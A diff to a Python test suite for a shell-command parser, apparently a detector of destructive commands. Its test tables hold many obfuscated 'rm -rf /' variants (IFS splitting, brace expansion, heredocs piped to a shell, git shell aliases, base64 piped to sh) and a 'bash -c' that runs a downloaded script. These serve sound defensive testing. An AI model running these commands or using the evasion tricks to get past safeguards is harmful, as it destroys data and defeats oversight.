@@ -54,6 +54,8 @@ PAIRS: list[tuple[str, str, tuple[str, ...], str]] = [
     ("while", "while true; do rm -rf /; done", RM, "while true; do sleep 1; done"),
     ("until", "until false; do rm -rf /; done", RM, "until false; do date; done"),
     ("for", "for d in a b; do rm -rf /; done", RM, "for d in a b; do echo $d; done"),
+    ("for-var-bound", 'for d in / x; do rm -rf "$d"; done', RM, 'for d in build x; do rm -rf "$d"; done'),
+    ("for-var-brace", "for d in {/,tmp}; do rm -rf $d; done", RM, "for d in {a,b}; do rm -rf $d; done"),
     ("c-for", "for ((i=0;i<1;i++)); do rm -rf /; done", RM, "for ((i=0;i<1;i++)); do echo $i; done"),
     ("case", "case x in x) rm -rf /;; esac", RM, "case x in x) echo rm -rf /;; esac"),
     ("double-bracket", '[[ -n "$X" ]] && rm -rf /', RM, "[[ -d / ]] && echo yes"),
@@ -71,6 +73,9 @@ PAIRS: list[tuple[str, str, tuple[str, ...], str]] = [
     ("var-args", "A='-rf /'; rm $A", RM, "A='-rf ./x'; rm $A"),
     ("export", "export R=rm; $R -rf /", RM, "export R=rm; echo $R"),
     ("ifs", "rm${IFS}-rf${IFS}/", RM, "echo${IFS}hi"),
+    ("ifs-unbraced", "rm$IFS-rf$IFS/", RM, "echo$IFS-rf$IFS/"),
+    ("ifs-custom", 'IFS=,; c="rm,-rf,/"; $c', RM, 'IFS=,; c="ls,-la,/"; $c'),
+    ("ifs-custom-braced", "IFS=,; rm${IFS}-rf${IFS}/", RM, "IFS=,; ls${IFS}-la${IFS}/"),
     ("brace-expansion", "{rm,-rf,/}", RM, "echo {a,b,c}"),
     ("brace-split-name", "{r,}m -rf /", ("rm", "m", "-rf", "/"), "echo {r,}m"),
     ("concat", "a=r; b=m; $a$b -rf /", RM, "a=r; b=m; echo $a$b"),
@@ -120,6 +125,10 @@ PAIRS: list[tuple[str, str, tuple[str, ...], str]] = [
     ("pipe-to-bash-s", "echo 'rm -rf /' | bash -s", RM, "echo 'ls' | bash -s"),
     ("herestring-sh", "bash <<< 'rm -rf /'", RM, "cat <<< 'rm -rf /'"),
     ("heredoc-sh", "bash <<'EOF'\nrm -rf /\nEOF", RM, "cat <<'EOF'\nrm -rf /\nEOF"),
+    ("heredoc-pipe-sh", "cat <<'EOF' | sh\nrm -rf /\nEOF", RM, "cat <<'EOF' | grep rm\nrm -rf /\nEOF"),
+    ("heredoc-pipe-bash-s", "cat <<EOF | bash -s\nrm -rf /\nEOF", RM, "cat <<EOF | wc -l\nrm -rf /\nEOF"),
+    ("git-alias-shell", "git config alias.x '!rm -rf /' && git x", RM, "git config alias.x '!ls /' && git x"),
+    ("git-alias-shell-inline", "git -c alias.x='!rm -rf' x /", RM, "git -c alias.x='!ls' x /"),
     ("heredoc-then-and", "cat <<EOF > x\nhi\nEOF\nrm -rf /", RM, "cat <<EOF > x\nrm -rf /\nEOF"),
     ("base64-sh", "echo cm0gLXJmIC8= | base64 -d | sh", RM, "echo cm0gLXJmIC8= | base64 -d"),
     ("printf-sh", "printf 'rm -rf /' | sh", RM, "printf 'rm -rf /'"),
@@ -228,3 +237,29 @@ def test_beyond_limits_is_flagged_not_passed(source: str) -> None:
 def test_syntax_error_is_reported() -> None:
     model = parse_command('rm -rf "unterminated')
     assert model.problems
+
+
+def test_inline_git_alias_is_expanded_and_builtins_are_not_shadowed() -> None:
+    argvs = _argvs("git -c alias.nuke='reset --hard' nuke")
+    assert any(a[:1] == ("git",) and a[-2:] == ("reset", "--hard") for a in argvs), argvs
+    argvs = _argvs("git -c alias.push=status push --force")
+    assert any(a[-2:] == ("push", "--force") for a in argvs), "git never lets an alias replace a built-in"
+
+
+def test_xargs_names_the_file_its_arguments_come_from() -> None:
+    for source in ("xargs -a list.txt rm -rf", "xargs --arg-file=list.txt rm -rf", "xargs rm -rf < list.txt",
+                   "cat list.txt | xargs rm -rf"):
+        (rm,) = [c for c in parse_command(source).commands if c.name == "rm"]
+        assert rm.args[-1] == "$(xargs-input <list.txt)", (source, rm.args)
+    (rm,) = [c for c in parse_command("ls | xargs rm -rf").commands if c.name == "rm"]
+    assert rm.args[-1] == "$(xargs-input)"
+
+
+def test_loop_over_unknown_list_keeps_the_variable_dynamic() -> None:
+    (rm,) = [c for c in parse_command('for d in $(cat dirs); do rm -rf "$d"; done').commands if c.name == "rm"]
+    assert rm.args == ("-rf", "$d") and rm.dynamic
+
+
+def test_shell_running_a_download_is_recorded() -> None:
+    cmds = parse_command('bash -c "$(curl -fsSL https://x.io/i.sh)"').commands
+    assert [c.name for c in cmds if c.name == "bash"], [c.argv for c in cmds]
